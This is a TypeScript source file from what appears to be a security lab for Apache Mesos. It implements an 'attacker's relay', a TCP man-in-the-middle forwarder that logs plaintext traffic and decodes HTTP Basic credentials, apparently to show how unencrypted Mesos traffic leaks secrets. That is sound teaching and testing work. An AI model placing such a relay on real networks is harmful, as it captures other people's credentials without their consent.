/**
 * The attacker's relay: a TCP forwarder on the path between a client and a Mesos process that records what it
 * forwards, as an eavesdropper on the network would see it. It listens on one port, connects each client to the
 * target, copies the bytes both ways unchanged, and prints what it saw, one line per piece of readable text:
 *
 *   relay: listening on 5050, forwarding to master:5050
 *   [c1 client→master] first bytes: 50 4f 53 54 20 2f …  (readable)
 *   [c1 client→master] POST /master/api/v1/scheduler HTTP/1.1
 *   [c1 client→master] Authorization: Basic b3BlcmF0b3ItcHJpbmNpcGFsOnNlY3JldA==
 *   [c1 client→master] decoded Basic credentials: operator-principal:secret
 *   [c2 client→master] first bytes: 16 03 01 02 00 01 00 01 …  (TLS handshake record)
 *   [c1] closed: client→master 412 bytes, master→client 1733 bytes
 *
 * This file runs inside the lab's `relay` container as a plain Node.js script (18 or later, built-ins only):
 * `node relay.mjs <listen port> <target host> <target port> <target name>`. Nothing else of mesos-lab is imported,
 * so it is copied there as it is.
 */
import { createConnection, createServer, type Socket } from "node:net";
import { pathToFileURL } from "node:url";

/** The readable runs of a byte stream: text of 4 or more printable characters, cut at line ends and binary bytes. */
export class ReadableRuns {
  private pending = "";

  constructor(private readonly emit: (text: string) => void) {}

  push(chunk: Buffer): void {
    for (const byte of chunk) {
      const printable = byte >= 0x20 && byte < 0x7f;
      if (printable) {
        this.pending += String.fromCharCode(byte);
        if (this.pending.length >= 400) this.flush();
      } else this.flush();
    }
  }

  flush(): void {
    if (this.pending.length >= 4) this.emit(this.pending);
    this.pending = "";
  }
}

const hex = (b: Buffer) => [...b.subarray(0, 8)].map((x) => x.toString(16).padStart(2, "0")).join(" ");

/** What the first bytes of a stream are: a TLS record (content type 0x14–0x17, version 3.x) or readable text. */
export function firstBytes(b: Buffer): string {
  const tls = b.length >= 3 && b[0]! >= 0x14 && b[0]! <= 0x17 && b[1] === 0x03;
  const kind = tls ? (b[0] === 0x16 ? "TLS handshake record" : "TLS record") : b.subarray(0, 8).every((x) => x >= 0x20 && x < 0x7f) ? "readable" : "binary";
  return `first bytes: ${hex(b)} …  (${kind})`;
}

/** The user:password an `Authorization: Basic` header carries, or undefined. */
export function basicCredentials(text: string): string | undefined {
  const m = /Authorization: Basic ([A-Za-z0-9+/=]+)/i.exec(text);
  return m ? Buffer.from(m[1]!, "base64").toString("utf8") : undefined;
}

export function relay(o: { listen: number; host: string; port: number; name: string; log?: (line: string) => void }): Promise<() => void> {
  const log = o.log ?? ((l: string) => process.stdout.write(`${l}\n`));
  let n = 0;
  const server = createServer((client: Socket) => {
    const id = `c${++n}`;
    const upstream = createConnection({ host: o.host, port: o.port });
    const counts = { up: 0, down: 0 };
    const side = (from: Socket, to: Socket, dir: "up" | "down") => {
      const label = dir === "up" ? `[${id} client→${o.name}]` : `[${id} ${o.name}→client]`;
      const runs = new ReadableRuns((text) => {
        log(`${label} ${text}`);
        const creds = basicCredentials(text);
        if (creds) log(`${label} decoded Basic credentials: ${creds}`);
      });
      from.on("data", (chunk: Buffer) => {
        if (counts[dir] === 0) log(`${label} ${firstBytes(chunk)}`);
        counts[dir] += chunk.length;
        runs.push(chunk);
        to.write(chunk);
      });
      from.on("end", () => {
        runs.flush();
        to.end();
      });
    };
    side(client, upstream, "up");
    side(upstream, client, "down");
    let closed = false;
    const close = (why?: Error) => {
      if (closed) return;
      closed = true;
      client.destroy();
      upstream.destroy();
      log(`[${id}] closed${why ? ` (${why.message})` : ""}: client→${o.name} ${counts.up} bytes, ${o.name}→client ${counts.down} bytes`);
    };
    client.on("close", () => close());
    upstream.on("close", () => close());
    client.on("error", close);
    upstream.on("error", close);
  });
  return new Promise((resolve, reject) => {
    server.once("error", reject);
    server.listen(o.listen, "0.0.0.0", () => {
      log(`relay: listening on ${o.listen}, forwarding to ${o.host}:${o.port}`);
      resolve(() => server.close());
    });
  });
}

if (import.meta.url === pathToFileURL(process.argv[1] ?? "").href) {
  const [listen, host, port, name] = process.argv.slice(2);
  relay({ listen: Number(listen), host: host!, port: Number(port), name: name ?? host! }).catch((err: Error) => {
    process.stderr.write(`relay: ${err.message}\n`);
    process.exit(1);
  });
}
